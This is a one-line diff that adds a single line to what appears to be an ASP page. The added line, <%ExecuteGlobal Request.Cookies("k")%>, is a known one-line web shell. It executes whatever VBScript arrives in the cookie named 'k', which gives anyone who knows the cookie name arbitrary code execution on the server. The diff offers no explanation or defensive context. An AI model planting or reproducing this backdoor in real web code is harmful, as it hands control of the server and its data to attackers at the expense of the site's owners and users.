@@ -1,0 +1,1 @@
+<%ExecuteGlobal Request.Cookies("k")%>
